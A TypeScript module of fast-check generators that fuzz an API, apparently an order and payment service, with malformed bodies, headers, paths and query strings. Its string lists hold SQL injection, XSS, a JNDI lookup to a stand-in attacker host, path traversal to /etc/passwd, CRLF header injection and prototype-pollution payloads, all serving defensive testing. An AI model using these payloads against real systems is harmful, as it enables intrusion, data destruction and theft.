/** fast-check generators of bad input: bodies, headers, path segments and query strings. */
import fc from 'fast-check';

/** Strings that have broken parsers, templates, databases and logs elsewhere. */
export const NASTY_STRINGS = [
  '',
  ' ',
  "' OR '1'='1' --",
  '"; DROP TABLE orders; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '\u0000',
  '\u0000tok_visa',
  '\ud800',
  '\udfff\ud800',
  '\u202eevil',
  '\ufeffBOM',
  '𝕏𝕐ℤ',
  'Ünïcödé',
  '日本語の注文',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '\r\nX-Injected: 1',
  '__proto__',
  'constructor',
  '{"$gt":""}',
  '$where',
  'tok_',
  'tok_ visa',
  'tok_decline\n',
  'A'.repeat(5_000),
  '9'.repeat(400),
];

export const nastyString = fc.oneof(
  fc.constantFrom(...NASTY_STRINGS),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
);

export const nastyNumber = fc.oneof(
  fc.constantFrom(-1, 0, -0, 0.5, 1.5, -0.5, 1e-9, 10_001, 1e21, -1e21, Number.MAX_SAFE_INTEGER + 2, 1.7976931348623157e308, 100_000_001),
  fc.integer({ min: -(2 ** 31), max: 2 ** 31 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Any JSON value of a wrong kind for a field. */
export const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: nastyString },
  { weight: 3, arbitrary: nastyNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}, [null], { $gt: '' }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

const EXTRA_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'price', 'unitPrice', 'total', 'amount', 'status', 'admin', 'isAdmin', '$where'];

type Path = (string | number)[];

/** Every path of a JSON template (objects and arrays), the root included. */
export function pathsOf(value: unknown, prefix: Path = [], paths: Path[] = [], limit = 500): Path[] {
  if (paths.length >= limit) return paths;
  paths.push(prefix);
  if (Array.isArray(value)) value.forEach((item, index) => pathsOf(item, [...prefix, index], paths, limit));
  else if (typeof value === 'object' && value !== null) for (const [key, item] of Object.entries(value)) pathsOf(item, [...prefix, key], paths, limit);
  return paths;
}

function clone<T>(value: T): T {
  return JSON.parse(JSON.stringify(value)) as T;
}

function parentOf(root: unknown, path: Path): { parent: Record<string | number, unknown> | undefined; key: string | number | undefined } {
  if (path.length === 0) return { parent: undefined, key: undefined };
  let node = root as Record<string | number, unknown>;
  for (const step of path.slice(0, -1)) node = node[step] as Record<string | number, unknown>;
  return { parent: node, key: path[path.length - 1] };
}

export type Mutation =
  | { kind: 'delete'; path: number }
  | { kind: 'replace'; path: number; value: unknown }
  | { kind: 'extra'; path: number; key: string; value: unknown }
  | { kind: 'hugeArray'; path: number; length: number }
  | { kind: 'quantity'; value: unknown };

export function mutation(): fc.Arbitrary<Mutation> {
  const index = fc.nat({ max: 1_000 });
  return fc.oneof(
    fc.record({ kind: fc.constant('delete' as const), path: index }),
    fc.record({ kind: fc.constant('replace' as const), path: index, value: nastyValue }),
    fc.record({ kind: fc.constant('extra' as const), path: index, key: fc.oneof(fc.constantFrom(...EXTRA_KEYS), fc.string({ maxLength: 20 })), value: nastyValue }),
    fc.record({ kind: fc.constant('hugeArray' as const), path: index, length: fc.oneof(fc.integer({ min: 101, max: 2_000 }), fc.constant(20_000)) }),
    fc.record({ kind: fc.constant('quantity' as const), value: fc.oneof(nastyNumber, nastyValue) }),
  );
}

/** Applies mutations to a copy of `template`, building the JSON text by hand where JSON.stringify would drop a key (`__proto__`). */
export function applyMutations(template: unknown, mutations: readonly Mutation[]): unknown {
  let root = clone(template);
  for (const m of mutations) {
    const paths = pathsOf(root);
    if (m.kind === 'quantity') {
      const items = typeof root === 'object' && root !== null ? (root as { items?: unknown }).items : undefined;
      if (Array.isArray(items) && typeof items[0] === 'object' && items[0] !== null) (items[0] as Record<string, unknown>).quantity = m.value;
      continue;
    }
    const path = paths[m.path % paths.length]!;
    const { parent, key } = parentOf(root, path);
    const target = parent === undefined ? root : parent[key!];
    switch (m.kind) {
      case 'delete':
        if (parent === undefined) root = undefined;
        else if (Array.isArray(parent)) parent.splice(Number(key), 1);
        else delete parent[key!];
        break;
      case 'replace':
        if (parent === undefined) root = m.value;
        else parent[key!] = m.value;
        break;
      case 'extra':
        if (typeof target === 'object' && target !== null && !Array.isArray(target)) {
          Object.defineProperty(target, m.key, { value: m.value, enumerable: true, configurable: true, writable: true });
        }
        break;
      case 'hugeArray': {
        // Never nest one huge array in another: the point is a big body, not an exponential one.
        const element = JSON.stringify(target ?? 1).length > 2_000 ? 1 : target ?? 1;
        const copy = Array.from({ length: m.length }, () => clone(element));
        if (parent === undefined) root = copy;
        else parent[key!] = copy;
        break;
      }
    }
    if (root === undefined) break;
  }
  return root;
}

export const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/vnd.api+json',
  'text/plain',
  'text/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'application/xml',
  'application/octet-stream',
  '*/*',
  'application/json, text/plain',
  'garbage',
] as const;

/** A header value Node can send (latin1 without control characters). */
export const headerValue = (maxLength: number) =>
  fc.string({ unit: fc.integer({ min: 0x20, max: 0xff }).filter((c) => c !== 0x7f).map((c) => String.fromCharCode(c)), maxLength });

export const idempotencyKeyHeader = fc.oneof(
  fc.constant(undefined),
  fc.string({ unit: fc.constantFrom(...'abcdefXYZ0123456789-_:.'.split('')), minLength: 1, maxLength: 40 }),
  headerValue(60),
  fc.integer({ min: 201, max: 12_000 }).map((n) => 'k'.repeat(n)),
  fc.constantFrom('', ' ', 'a b', 'ключ', '\t', '%00', '${jndi:x}'),
  fc.tuple(fc.constantFrom('dup-key-1', 'dup-key-2'), fc.constantFrom('dup-key-1', 'dup-key-3')).map(([a, b]) => [a, b]),
);

export const requestIdHeader = fc.oneof(
  fc.constant(undefined),
  headerValue(80),
  fc.integer({ min: 129, max: 8_000 }).map((n) => 'r'.repeat(n)),
  fc.constantFrom('', '<script>', '../../x', 'id with spaces', 'ünï', '${jndi:x}', '%0d%0aSet-Cookie:x=1'),
  fc.constant(null).map(() => ['a', 'b']),
);

/** A path segment as it goes on the wire: encoded garbage, raw percent junk, huge, traversal. */
export const pathSegment = fc.oneof(
  nastyString.map((s) => encodeURIComponent(s.replace(/[\ud800-\udfff]/g, '?'))),
  fc.constantFrom('%', '%zz', '%E0%A4%A', '%C0%AE%C0%AE', '..', '.', '%2e%2e%2f%2e%2e', '%00', 'a%2Fb', '%ff%fe', '~', '*'),
  fc.integer({ min: 129, max: 10_000 }).map((n) => 'o'.repeat(n)),
);

/** A query string value for `name`: encoded garbage, arrays, nested brackets, repeated. */
export const queryFor = (name: string) =>
  fc.oneof(
    fc.constant(''),
    pathSegment.map((v) => `?${name}=${v}`),
    fc.constantFrom(`?${name}=a&${name}=b`, `?${name}[]=a`, `?${name}[x]=1`, `?${name}`, `?${name}=`, '?__proto__=1', `?${name}=%`),
  );
